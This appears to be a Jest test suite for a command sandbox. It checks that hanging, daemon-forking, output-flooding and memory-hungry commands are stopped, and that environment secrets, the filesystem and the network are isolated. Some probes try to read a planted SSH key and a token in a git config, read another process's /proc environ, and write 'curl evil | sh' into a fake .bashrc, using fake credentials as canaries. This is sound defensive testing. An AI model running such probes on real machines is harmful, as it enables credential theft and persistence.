/**
 * FAULTS 21: a suite that hangs, forks a daemon, prints without end, eats memory, or reads the
 * environment is contained. Limits are generous; nothing here asserts how long anything took.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from "@jest/globals";
import { spawn } from "node:child_process";
import { existsSync, promises as fs } from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { createWorkspace, probeIsolation, type Workspace } from "../../src/sandbox/index.js";
import { makeFixture, nodeEval, type Fixture } from "./fixture.js";

let fx: Fixture;
const opened: Workspace[] = [];

beforeAll(async () => {
  fx = await makeFixture();
});
afterEach(async () => {
  for (const w of opened.splice(0)) await w.dispose();
});
afterAll(async () => {
  await fx.cleanup();
});

async function open(namespaces = true): Promise<Workspace> {
  const w = await createWorkspace(fx.repo, { trusted: true, scratchRoot: fx.scratch, namespaces });
  opened.push(w);
  return w;
}

/** Waits, then tells whether a file appeared: how a killed daemon is shown to be dead. */
async function appearsWithin(file: string, ms: number): Promise<boolean> {
  await new Promise((r) => setTimeout(r, ms));
  return existsSync(file);
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

/** A parent that starts a setsid'd child (its own process group) which writes `late` later. */
function daemonScript(late: string, pidFile: string, parentHangs: boolean): string {
  return [
    'const { spawn } = require("child_process");',
    'const fs = require("fs");',
    `const child = spawn(process.execPath, ["-e", ${JSON.stringify(`setTimeout(() => require("fs").writeFileSync(${JSON.stringify(late)}, "alive"), 1500)`)}], { detached: true, stdio: "ignore" });`,
    `fs.writeFileSync(${JSON.stringify(pidFile)}, String(child.pid));`,
    "child.unref();",
    parentHangs ? "setInterval(() => {}, 1000);" : "",
  ].join("\n");
}

describe("a command that hangs", () => {
  it("is killed at its time limit", async () => {
    const w = await open();
    const result = await w.run({ argv: nodeEval("setInterval(() => {}, 1000)"), limits: { timeoutMs: 1000 } });
    expect(result).toMatchObject({ timedOut: true, killed: "timeout", signal: "SIGKILL" });
  });
});

describe("a command that forks a daemon", () => {
  for (const namespaces of [true, false]) {
    const mode = namespaces ? "with namespaces where available" : "with the plain fallback (process group + marker sweep)";

    it(`leaves nothing behind when killed at its limit, ${mode}`, async () => {
      const w = await open(namespaces);
      const late = path.join(fx.base, `late-timeout-${namespaces}`);
      const pidFile = path.join(fx.base, `pid-timeout-${namespaces}`);
      const result = await w.run({ argv: nodeEval(daemonScript(late, pidFile, true)), limits: { timeoutMs: 1000 } });
      expect(result.timedOut).toBe(true);
      expect(await appearsWithin(late, 2500)).toBe(false);
      // Outside a PID namespace the pid it wrote is a real one: that process is gone.
      if (!namespaces) expect(alive(Number(await fs.readFile(pidFile, "utf8")))).toBe(false);
    });

    it(`leaves nothing behind when it exits normally, ${mode}`, async () => {
      const w = await open(namespaces);
      const late = path.join(fx.base, `late-exit-${namespaces}`);
      const pidFile = path.join(fx.base, `pid-exit-${namespaces}`);
      const result = await w.run({ argv: nodeEval(daemonScript(late, pidFile, false)) });
      expect(result).toMatchObject({ exitCode: 0, timedOut: false });
      expect(await appearsWithin(late, 2500)).toBe(false);
      if (!namespaces) expect(alive(Number(await fs.readFile(pidFile, "utf8")))).toBe(false);
    });
  }
});

describe("a command that prints without end", () => {
  it("is cut at the output cap and stopped", async () => {
    const w = await open();
    const cap = 256 * 1024;
    const result = await w.run({
      argv: nodeEval('const chunk = "x".repeat(1024 * 1024); let n = 0; (function write() { while (n < 50 && process.stdout.write(chunk)) n++; if (n < 50) process.stdout.once("drain", () => { n++; write(); }); })();'),
      limits: { outputBytes: cap },
    });
    expect(result).toMatchObject({ outputTruncated: true, killed: "output" });
    expect(Buffer.byteLength(result.stdout)).toBe(cap);
  });

  it("keeps each stream's own cap", async () => {
    const w = await open();
    const result = await w.run({ argv: nodeEval('process.stderr.write("e".repeat(100)); process.stdout.write("o".repeat(100));'), limits: { outputBytes: 64 * 1024 } });
    expect(result).toMatchObject({ exitCode: 0, outputTruncated: false, stdout: "o".repeat(100), stderr: "e".repeat(100) });
    expect(result.killed).toBeUndefined();
  });
});

describe("a command that eats memory", () => {
  it("does not get past its limit where the platform enforces one", async () => {
    const w = await open();
    const result = await w.run({
      argv: nodeEval("const keep = []; for (let i = 0; i < 40; i++) keep.push(Buffer.alloc(32 * 1024 * 1024, 1)); console.log('allocated all');"),
      limits: { memoryMb: 256 },
    });
    const isolation = await probeIsolation();
    expect(result.isolation.memory).toBe(isolation.memory);
    if (isolation.memory === "enforced") {
      expect(result.stdout).not.toContain("allocated all");
      expect(result.exitCode === 0 && !result.killed).toBe(false);
    }
  });
});

describe("a command that eats memory in many processes", () => {
  it("is stopped when the whole tree goes over the limit, though each process stays under it", async () => {
    const isolation = await probeIsolation();
    const w = await open();
    // Three workers of ~150 MiB each under a 256 MiB limit: only the tree's total is over.
    const worker = "const b = Buffer.alloc(150 * 1024 * 1024, 1); setInterval(() => b[0]++, 100);";
    const result = await w.run({
      argv: nodeEval(`const { spawn } = require("child_process"); for (let i = 0; i < 3; i++) spawn(process.execPath, ["-e", ${JSON.stringify(worker)}], { stdio: "ignore" }); setInterval(() => {}, 1000);`),
      limits: { memoryMb: 256, timeoutMs: 30_000 },
    });
    if (isolation.memory === "enforced" && process.platform === "linux") expect(result).toMatchObject({ killed: "memory", timedOut: false });
    else expect(result.timedOut).toBe(true);
  });
});

describe("the environment", () => {
  const fakes = {
    GITHUB_TOKEN: "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A",
    ANTHROPIC_API_KEY: "sk-ant-api03-" + "Zx8Yw7Vu6Ts5Rq4Po3Nm2Lk1Ji0Hg9Fe8Dc7Ba6",
    AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ3kL8mN2p",
    ACTIONS_RUNTIME_TOKEN: "eyJhbGciOiJSUzI1NiJ9.runtime",
  };
  const saved: Record<string, string | undefined> = {};
  let fakeHome: string;

  beforeAll(async () => {
    fakeHome = path.join(fx.base, "user-home");
    await fs.mkdir(path.join(fakeHome, ".ssh"), { recursive: true });
    await fs.writeFile(path.join(fakeHome, ".ssh", "id_ed25519"), "PRIVATE KEY MATERIAL\n");
    for (const [k, v] of Object.entries({ ...fakes, HOME: fakeHome })) {
      saved[k] = process.env[k];
      process.env[k] = v;
    }
  });
  afterAll(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  it("holds no secret of ours, and HOME is a fresh folder in the scratch", async () => {
    const w = await open();
    const result = await w.run({ argv: nodeEval("process.stdout.write(JSON.stringify(process.env))") });
    const env = JSON.parse(result.stdout) as Record<string, string>;
    for (const [name, value] of Object.entries(fakes)) {
      expect(env[name]).toBeUndefined();
      expect(result.stdout).not.toContain(value);
    }
    expect(env.HOME).not.toBe(fakeHome);
    expect(env.HOME).not.toBe(os.userInfo().homedir);
    expect(env.HOME!.startsWith(await fs.realpath(fx.scratch))).toBe(true);
    expect(env.TMPDIR!.startsWith(await fs.realpath(fx.scratch))).toBe(true);
    expect(env).toMatchObject({ CI: "true", TERM: "dumb", NODE_ENV: "test" });
    const ssh = await w.run({ argv: nodeEval('process.stdout.write(String(require("fs").existsSync(require("os").homedir() + "/.ssh/id_ed25519")))') });
    expect(ssh.stdout).toBe("false");
  });

  it("cannot read the user's credentials or write to their home or repository by absolute path, where namespaces allow", async () => {
    const token = "ghs_" + "Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz1Xc3Vb5N";
    await fs.appendFile(path.join(fx.repo, ".git", "config"), `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${token}\n`);
    // An ssh-agent socket: a file-system object the network namespace does not cover.
    const agentPath = path.join(fx.base, "agent.sock");
    const agent = net.createServer((socket) => socket.end("signed"));
    await new Promise<void>((resolve) => agent.listen(agentPath, resolve));
    process.env.SSH_AUTH_SOCK = agentPath;
    const w = await open().finally(() => delete process.env.SSH_AUTH_SOCK);
    const isolation = await probeIsolation();
    try {
      const viaAgent = await w.run({
        argv: nodeEval(`require("net").connect(${JSON.stringify(agentPath)}).on("data", (d) => process.stdout.write(String(d))).on("error", (e) => process.stdout.write(e.code));`),
      });
      if (isolation.filesystem === "protected") expect(viaAgent.stdout).not.toBe("signed");
      else expect(viaAgent.isolation.filesystem).toBe("not-isolated");
    } finally {
      await new Promise((resolve) => agent.close(resolve));
    }
    const probe = [
      'const fs = require("fs"); const out = {};',
      `try { out.key = fs.readFileSync(${JSON.stringify(path.join(fakeHome, ".ssh", "id_ed25519"))}, "utf8"); } catch (e) { out.key = e.code; }`,
      `try { out.config = fs.readFileSync(${JSON.stringify(path.join(fx.repo, ".git", "config"))}, "utf8"); } catch (e) { out.config = e.code; }`,
      `try { fs.writeFileSync(${JSON.stringify(path.join(fakeHome, ".bashrc"))}, "curl evil | sh"); out.home = "written"; } catch (e) { out.home = e.code; }`,
      `try { fs.writeFileSync(${JSON.stringify(path.join(fx.repo, "planted.js"))}, "x"); out.repo = "written"; } catch (e) { out.repo = e.code; }`,
      "process.stdout.write(JSON.stringify(out));",
    ].join("\n");
    const result = await w.run({ argv: nodeEval(probe) });
    const out = JSON.parse(result.stdout) as Record<string, string>;
    expect(result.isolation.filesystem).toBe(isolation.filesystem);
    if (isolation.filesystem === "protected") {
      expect(out.key).not.toContain("PRIVATE KEY MATERIAL");
      expect(out.config).not.toContain(token);
      expect(out).toMatchObject({ home: "EROFS", repo: "EROFS" });
      expect(existsSync(path.join(fakeHome, ".bashrc"))).toBe(false);
      expect(existsSync(path.join(fx.repo, "planted.js"))).toBe(false);
    } else {
      // Documented in src/sandbox/README.md: without a mount namespace the file system is not jailed.
      expect(result.isolation.filesystem).toBe("not-isolated");
    }
    // Another process of the runner user holding a secret in its environment (Lodestar itself is
    // one): a private /proc shows the sandbox none of them.
    const holder = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { env: { PATH: process.env.PATH ?? "", CANARY_TOKEN: token }, stdio: "ignore" });
    try {
      const peek = await w.run({ argv: nodeEval(`try { process.stdout.write(require("fs").readFileSync("/proc/${holder.pid}/environ", "utf8")); } catch (e) { process.stdout.write(e.code); }`) });
      if (isolation.filesystem === "protected") expect(peek.stdout).not.toContain(token);
    } finally {
      holder.kill("SIGKILL");
    }
    // The workspace itself stays writable, and our git still works there.
    expect((await w.run({ argv: nodeEval('require("fs").writeFileSync("made-here.txt", "ok")') })).exitCode).toBe(0);
    expect(await w.diff()).toContain("+++ b/made-here.txt");
  });

  it("drops extras that look like secrets and says which, without their values", async () => {
    const w = await open();
    const result = await w.run({
      argv: nodeEval("process.stdout.write(JSON.stringify(process.env))"),
      env: { MY_FLAG: "on", NPM_TOKEN: "npm_abcdefghijklmnopqrstuvwxyz0123456789", DATABASE_URL: "postgres://admin:Sup3rS3cretPw@db.internal:5432/app", HOME: "/root", "BAD-NAME": "x" },
    });
    const env = JSON.parse(result.stdout) as Record<string, string>;
    expect(env.MY_FLAG).toBe("on");
    expect(env.NPM_TOKEN).toBeUndefined();
    expect(env.DATABASE_URL).toBeUndefined();
    expect(env.HOME).not.toBe("/root");
    expect(result.droppedEnv?.sort()).toEqual(["BAD-NAME", "DATABASE_URL", "HOME", "NPM_TOKEN"]);
    expect(JSON.stringify(result)).not.toContain("Sup3rS3cretPw");
  });
});

describe("the network", () => {
  let server: net.Server;
  let port: number;
  beforeAll(async () => {
    server = net.createServer((socket) => socket.end("hello\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as net.AddressInfo).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });

  /** Connects to our server (outside the sandbox) and prints what happened. */
  const connect = () =>
    nodeEval(
      `const s = require("net").connect(${port}, "127.0.0.1"); s.on("data", () => { process.stdout.write("connected"); process.exit(0); }); s.on("error", (e) => { process.stdout.write("refused:" + e.code); process.exit(0); });`,
    );

  it("is off by default where the platform allows, and the result says what was applied", async () => {
    const w = await open();
    const result = await w.run({ argv: connect() });
    const isolation = await probeIsolation();
    expect(result.isolation.network).toBe(isolation.network);
    if (isolation.network === "none") expect(result.stdout).toMatch(/^refused:/);
    else expect(result.stdout).toBe("connected");
    // Loopback inside the sandbox still works for suites that start their own servers.
    const own = await w.run({ argv: nodeEval('const srv = require("net").createServer((s) => s.end("ok")).listen(0, "127.0.0.1", () => { require("net").connect(srv.address().port, "127.0.0.1").on("data", (d) => { process.stdout.write(String(d)); process.exit(0); }); });') });
    expect(own.stdout).toBe("ok");
  });

  it("is allowed when the command asks for it (an install step)", async () => {
    const w = await open();
    const result = await w.run({ argv: connect(), network: true });
    expect(result.isolation.network).toBe("allowed");
    expect(result.stdout).toBe("connected");
  });
});
